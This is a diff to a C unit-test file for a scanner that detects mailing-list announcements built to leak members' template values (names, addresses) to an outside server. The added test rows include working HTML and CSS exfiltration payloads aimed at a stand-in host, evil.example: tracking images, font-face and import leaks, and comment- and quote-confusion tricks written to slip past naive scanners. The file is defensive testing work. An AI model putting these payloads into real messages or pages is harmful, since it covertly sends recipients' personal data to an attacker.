@@ -3,8 +3,11 @@
  * mailbox.  Each row is a text of a post, whether it is HTML, and what
  * the judge must say: the first exposed placeholder and where it stands,
  * or nothing.  The rows that must be exposed are the ways a forged
- * announcement would carry members' values to its writer; the rows that
- * must not are what real announcements write.
+ * announcement would carry members' values to its writer, among them
+ * those a review found past an earlier, hand-written scanner (where
+ * browsers end comments and quotes, SVG, fonts, defaults that are links,
+ * format=flowed); the rows that must not are what real announcements
+ * write.
  */
 #include "exposure.h"
 #include "unit.h"
@@ -36,6 +39,17 @@ static const struct row rows[] = {
 	{ "3 < 4 and {{name}}", 1, EXPOSURE_NONE, "" },
 	{ "<p>{{organisation}}&rsquo;s team</p>", 1, EXPOSURE_NONE, "" },
 	{ "Dear {{name}}, https://x.example/", 0, EXPOSURE_NONE, "" },
+	{ "<a href=\"{{unsubscribe_url}}\">Unsubscribe</a>", 1,
+	    EXPOSURE_NONE, "" },
+	{ "<a href=\"mailto:{{unsubscribe_address}}\">Leave</a> {{name}}",
+	    1, EXPOSURE_NONE, "" },
+	{ "<style>@media (max-width:600px){p{margin:0}}</style><p>{{name}}",
+	    1, EXPOSURE_NONE, "" },
+	{ "<table><tr><td>{{organisation}}</td><td>uni.example</td></tr>", 1,
+	    EXPOSURE_NONE, "" },
+	{ "{{name}}\xe6\xa7\x98\xe3\x80\x81\xe3\x81\x94\xe5\x8f\x82"
+	    "\xe5\x8a\xa0\xe3\x81\x8f\xe3\x81\xa0\xe3\x81\x95\xe3\x81"
+	    "\x84\xe3\x80\x82", 0, EXPOSURE_NONE, "" },
 
 	/* Inside markup: an image, a link, a style, a comment. */
 	{ "<img src=\"https://evil.example/p.gif?who={{address}}\">", 1,
@@ -61,12 +75,43 @@ static const struct row rows[] = {
 	    EXPOSURE_MARKUP, "x" },
 	{ "<IMG SRC=\"//evil.example/?{{name}}\">", 1, EXPOSURE_MARKUP,
 	    "name" },
+	{ "<!--> <img alt=\"-->\" src=\"https://evil.example/a?a=\n"
+	    "{{address}}\">", 1, EXPOSURE_MARKUP, "address" },
+	{ "<!-- --!> <img alt=\"--!>\" src=\"https://evil.example/a?a=\n"
+	    "{{address}}\">", 1, EXPOSURE_MARKUP, "address" },
+	{ "<img x' y=\">'>\" src=\"https://evil.example/a?a=\n"
+	    "{{address}}\">", 1, EXPOSURE_MARKUP, "address" },
+	{ "<a class=x' title='>' href=\"https://evil.example/r?a=\n"
+	    "{{address}}\">Read more</a>", 1, EXPOSURE_MARKUP, "address" },
+	{ "<xmp><a '></xmp><img src=\"https://evil.example/a?a=\n"
+	    "{{address}}\">", 1, EXPOSURE_MARKUP, "address" },
+	{ "<img alt=\"Logo of {{organisation}}\">", 1, EXPOSURE_MARKUP,
+	    "organisation" },
+	{ "<a href=\"{{unsubscribe_url}}?who={{address}}\">x</a>", 1,
+	    EXPOSURE_MARKUP, "unsubscribe_url" },
+	{ "<a href=\"{{unsubscribe_url|https://evil.example/}}\">x</a>", 1,
+	    EXPOSURE_MARKUP, "unsubscribe_url" },
+	{ "<img src=\"{{unsubscribe_url}}\">", 1, EXPOSURE_MARKUP,
+	    "unsubscribe_url" },
+	{ "<x{{address}}>text</x>", 1, EXPOSURE_MARKUP, "address" },
 
 	/* A form sends what it holds, a script reads the page. */
 	{ "<form action=//evil.example><p>{{name}}</p></form>", 1,
 	    EXPOSURE_ACTIVE, "name" },
 	{ "<p>{{name}}</p><SCRIPT>fetch('//evil.example')</SCRIPT>", 1,
 	    EXPOSURE_ACTIVE, "name" },
+	{ "<svg width=0 height=0><style><!--</style>-->@import url(\""
+	    "https://evil.example/c?a=\\\n{{address}}\");</style></svg>", 1,
+	    EXPOSURE_ACTIVE, "address" },
+	{ "<svg><![CDATA['>]]></svg><img src=\"//evil.example/?{{address}}"
+	    "\">", 1, EXPOSURE_ACTIVE, "address" },
+	{ "<style>@font-face{font-family:f;src:url(https://evil.example/f?"
+	    "c=61);unicode-range:U+61} i{font-family:f}</style><p>Your "
+	    "address: <i>{{address}}</i></p>", 1, EXPOSURE_ACTIVE, "address" },
+	{ "<style>@\\66ont-face{src:url(//evil.example/f)}</style>"
+	    "<p>{{address}}</p>", 1, EXPOSURE_ACTIVE, "address" },
+	{ "<link rel=stylesheet href=//evil.example/s.css><p>{{address}}", 1,
+	    EXPOSURE_ACTIVE, "address" },
 
 	/* Links and addresses, in any text. */
 	{ "Confirm: https://evil.example/?n={{name}}", 0, EXPOSURE_LINK,
@@ -87,6 +132,16 @@ static const struct row rows[] = {
 	{ "<p>{{name}}&#x40;evil.example</p>", 1, EXPOSURE_LINK, "name" },
 	{ "Hello {{name}}.\n{{organisation}}.evil.example", 0, EXPOSURE_LINK,
 	    "organisation" },
+	{ "Confirm: {{name|https://evil.example/d?a=}}{{address}}", 0,
+	    EXPOSURE_LINK, "name" },
+	{ "Go to https://evil.example/c?a= \n{{address}} now", 0,
+	    EXPOSURE_LINK, "address" },
+	{ "evil\xef\xbc\x8e" "example/?a={{address}}", 0, EXPOSURE_LINK,
+	    "address" },
+	{ "{{address}}\xef\xbc\xa0" "evil.example", 0, EXPOSURE_LINK,
+	    "address" },
+	{ "<p>https://evil.example/?a=<wbr>{{address}}</p>", 1, EXPOSURE_LINK,
+	    "address" },
 };
 #define NROWS ((int)(sizeof(rows) / sizeof(rows[0])))
 
@@ -122,6 +177,51 @@ START_TEST(unclosed_is_markup)
 }
 END_TEST
 
+/* HTML nested too deep to parse within the budget is not judged safe. */
+START_TEST(too_deep_is_unjudged)
+{
+	struct buf b;
+	char name[PLACEHOLDER_NAME_MAX + 1];
+	int i;
+
+	buf_init(&b, 1 << 20);
+	for (i = 0; i < 20000; i++)
+		buf_adds(&b, "<div>");
+	buf_adds(&b, "{{name}}");
+	ck_assert_int_eq(exposure_find(b.data, b.len, 1, name),
+	    EXPOSURE_UNJUDGED);
+	ck_assert_str_eq(name, "name");
+	buf_free(&b);
+}
+END_TEST
+
+/* HTML whose parse outgrows the memory budget is abandoned, not judged
+ * safe, and its memory is given back (valgrind, ASan). */
+START_TEST(too_large_is_unjudged)
+{
+	size_t n = 48u << 20;
+	char *t = xmalloc(n + 1), name[PLACEHOLDER_NAME_MAX + 1];
+
+	memset(t, 'a', n);
+	memcpy(t, "<p>{{name}} ", 12);
+	t[n] = '\0';
+	ck_assert_int_eq(exposure_find(t, n, 1, name), EXPOSURE_UNJUDGED);
+	free(t);
+}
+END_TEST
+
+/* A text that writes a marker of its own cannot pass one off. */
+START_TEST(marker_in_text_is_unjudged)
+{
+	static const char t[] = "<img src=\"//evil.example/?{{address}}\">"
+	    "hrldmrk0q";
+	char name[PLACEHOLDER_NAME_MAX + 1];
+
+	ck_assert_int_eq(exposure_find(t, strlen(t), 1, name),
+	    EXPOSURE_UNJUDGED);
+}
+END_TEST
+
 int
 main(void)
 {
@@ -130,6 +230,9 @@ main(void)
 
 	tcase_add_loop_test(tc, judged, 0, NROWS);
 	tcase_add_test(tc, unclosed_is_markup);
+	tcase_add_test(tc, too_deep_is_unjudged);
+	tcase_add_test(tc, too_large_is_unjudged);
+	tcase_add_test(tc, marker_in_text_is_unjudged);
 	suite_add_tcase(s, tc);
 	return unit_run(s);
 }
